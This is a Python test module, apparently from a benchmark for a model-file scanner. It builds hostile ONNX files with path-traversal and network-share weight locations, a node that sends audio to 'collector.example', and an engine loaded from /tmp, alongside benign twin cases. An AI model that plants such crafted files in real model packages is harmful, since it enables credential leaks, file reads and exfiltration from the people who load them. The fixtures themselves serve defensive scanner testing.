"""ONNX once more."""

from __future__ import annotations

from benchmarks.scan.hostile.cases import Case, bad, twin
from benchmarks.scan.hostile.file_bytes import field
from benchmarks.scan.hostile.onnx_bytes import attribute, graph, model, node, tensor
from benchmarks.scan.hostile.ordinary import vit

DATA = "onnx.load and onnxruntime before their checks read the file as weights"
CARD = "# ONNX\n"


def _model(label: str, body: bytes, loader: str = DATA, path: str = "model.onnx") -> Case:
    return bad(label, loader, lambda: {path: body, "README.md": CARD})


def _where(location: str) -> bytes:
    return model(graph(initializers=field(5, tensor(location))))


LISTED = field(1, node("Custom", field(5, field(1, "values") + field(20, 9) + field(10, tensor("../../x")))))
LOOPED = field(1, node("Loop", attribute("body", 6, 5, graph(initializers=field(5, tensor("../x"))))))
TRAINING = field(20, field(1, graph(initializers=field(5, tensor("/etc/passwd")))))
BRANCHES = field(
    1, node("If", field(5, field(1, "b") + field(20, 10) + field(11, graph(initializers=field(5, tensor("../../y"))))))
)
INNER = graph(field(1, node("Constant", attribute("value", 5, 4, tensor("../../../z")))))
MIDDLE = graph(field(1, node("If", attribute("else_branch", 6, 5, INNER))))
DEEP = field(1, node("If", attribute("then_branch", 6, 5, MIDDLE)))
AUDIO = node(
    "AzureAudioInvoker", attribute("model_uri", 4, 3, "https://collector.example/x"), "com.microsoft.extensions"
)
ENGINE = node("EPContext", attribute("ep_cache_context", 4, 3, "/tmp/engine.bin"), "com.microsoft")

CASES: tuple[Case, ...] = (
    _model(
        "network-share", _where("\\\\host\\share\\w.bin"), "on Windows: asks that host, with the user's credentials"
    ),
    _model("two-slashes", _where("//host/share/w.bin"), "on Windows: asks that host, with the user's credentials"),
    _model("dots-at-the-end", _where("weights/../../w.bin")),
    _model("in-a-list-of-tensors", model(graph(LISTED))),
    _model("in-a-loop", model(graph(LOOPED))),
    _model("in-the-training-graph", model(graph(), TRAINING)),
    _model("in-a-list-of-graphs", model(graph(BRANCHES))),
    _model("two-branches-deep", model(graph(DEEP)), path="decoder/model_merged.onnx"),
    _model(
        "sends-audio-to-a-host",
        model(graph(field(1, AUDIO)), domains=("", "com.microsoft.extensions")),
        "onnxruntime with onnxruntime-extensions sends its input to model_uri",
    ),
    _model(
        "engine-of-the-machine",
        model(graph(field(1, ENGINE)), domains=("", "com.microsoft")),
        "EPContext loads the engine from there",
    ),
    bad("beside-transformers-outside", DATA, lambda: vit({"onnx/model_fp16.onnx": _where("../../../../w.bin")})),
    # twins
    twin(
        "data-in-a-folder",
        "onnxruntime",
        lambda: {"model.onnx": _where("weights/w.bin"), "weights/w.bin": bytes(24), "README.md": CARD},
    ),
    twin(
        "merged-decoder",
        "optimum",
        lambda: vit(
            {
                "onnx/decoder_model_merged.onnx": model(
                    graph(field(1, node("If", attribute("then_branch", 6, 5, graph()))))
                )
            }
        ),
    ),
    twin(
        "quantized",
        "onnxruntime",
        lambda: vit(
            {
                "onnx/model_quantized.onnx": model(
                    graph(
                        field(1, node("DynamicQuantizeLinear")) + field(1, node("QAttention", domain="com.microsoft"))
                    ),
                    domains=("", "com.microsoft"),
                )
            }
        ),
    ),
)
